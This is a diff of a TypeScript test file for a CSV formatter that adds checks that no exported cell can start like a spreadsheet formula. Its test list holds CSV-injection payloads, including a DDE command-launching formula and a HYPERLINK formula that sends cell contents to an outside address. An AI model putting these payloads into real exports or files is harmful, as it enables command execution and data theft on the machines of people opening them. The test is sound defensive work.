@@ -1,8 +1,8 @@
 import assert from "node:assert/strict";
 import test from "node:test";
-import { csvParseRows } from "d3-dsv";
 import { formatRow, header, parseRows, type Row } from "./rows.ts";
 import { randomNumbers, someRow } from "./testing.ts";
+import { visible } from "./visible.ts";
 
 const file = (...lines: string[]) => [header, ...lines].join("\n") + "\n";
 const good = formatRow(someRow());
@@ -18,6 +18,7 @@ function awkwardRow(random: () => number): Row {
     '""',
     "\ufeff",
     "\u2028",
+    ..."＝＋－＠\u00a0\x00\x1b\x7f\x85\u202e",
   ];
   const text = () =>
     Array.from(
@@ -44,7 +45,7 @@ function awkwardRow(random: () => number): Row {
   };
 }
 
-test("any row can be read again, its line breaks as spaces", () => {
+test("any row can be read again, its line breaks as spaces and controls as pictures", () => {
   const random = randomNumbers();
   for (let trial = 0; trial < 2000; trial++) {
     const row = awkwardRow(random);
@@ -52,7 +53,9 @@ test("any row can be read again, its line breaks as spaces", () => {
     assert.doesNotMatch(line, /[\r\n]/);
     const expected = Object.entries(row).map(([name, value]) => [
       name,
-      typeof value === "string" ? value.replace(/[\r\n]+/g, " ") : value,
+      typeof value === "string"
+        ? visible(value.replace(/[\r\n]+/g, " "))
+        : value,
     ]);
     assert.deepEqual(parseRows(file(line)), {
       rows: [Object.fromEntries(expected)],
@@ -61,13 +64,63 @@ test("any row can be read again, its line breaks as spaces", () => {
   }
 });
 
-test("no cell starts like a formula", () => {
-  const random = randomNumbers();
-  for (let trial = 0; trial < 2000; trial++) {
-    for (const cell of csvParseRows(formatRow(awkwardRow(random)))[0] ?? []) {
-      assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
+/** The cells as a spreadsheet finds them, which takes quotes at a start alone. */
+function cellsOf(text: string, separators: string): string[] {
+  const end = `[^${separators}\\n]*`;
+  const cell = RegExp(`"(?:[^"]|"")*(?:"|$)${end}|${end}`, "gy");
+  const cells: string[] = [];
+  while (cell.lastIndex <= text.length) {
+    const [found] = cell.exec(text)!;
+    cells.push(found.replace(/^"((?:[^"]|"")*)"?/, (_, quoted) => {
+      return quoted.replaceAll('""', '"');
+    }));
+    cell.lastIndex++;
+  }
+  return cells;
+}
+
+/** Separators where numbers have a point, where they have a comma, and both. */
+const dialects = [",", ";", ",;\t"];
+
+function assertNoFormula(rows: Row[]) {
+  const text = rows.map(formatRow).join("\n");
+  for (const separators of dialects) {
+    for (const cell of cellsOf(text, separators)) {
+      assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]|^[\t\r]/, separators);
     }
   }
+}
+
+test("no cell starts like a formula, whatever separates cells", () => {
+  const random = randomNumbers();
+  for (let trial = 0; trial < 500; trial++) {
+    assertNoFormula(Array.from({ length: 4 }, () => awkwardRow(random)));
+  }
+});
+
+// Those of https://owasp.org/www-community/attacks/CSV_Injection, and others.
+const formulas = [
+  ..."=1+1\n+1+1\n-1+1\n@SUM(1)\n＝1+1\n＋1\n－1\n＠SUM(1)".split("\n"),
+  ...["\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1"],
+  ...[";=1+1", "a;=1+1", 'a";"=1+1', "a; ＝1+1", "'=1+1;=1+2", '=1+2";=1+2'],
+  ...["=1+2'\" ;,=1+2", '"=1+1"', '""=1+1', " '=1+1", "%0A=1+1", "a;;-1"],
+  ...["=cmd|'/C calc'!A0", '=HYPERLINK("http://a/?"&A1)', "\x00=1+1"],
+];
+
+test("no known formula is one, and all are read as they were", () => {
+  for (const text of formulas) {
+    const row = someRow({ url: text, error: text, name: text, id: text });
+    assertNoFormula([row, row]);
+    const { rows: [read], problems } = parseRows(file(formatRow(row)));
+    assert.deepEqual(problems, []);
+    assert.equal(read!.error, visible(text.replace(/[\r\n]+/g, " ")));
+    assert.equal(read!.id, read!.error);
+  }
+});
+
+test("a file from before, with an apostrophe before a tab, is read as it was meant", () => {
+  const { rows: [row] } = parseRows(file(good.replace("sync", "'\tsync")));
+  assert.equal(row!.name, "\tsync");
 });
 
 test("what was not measured is empty, and is never 0", () => {
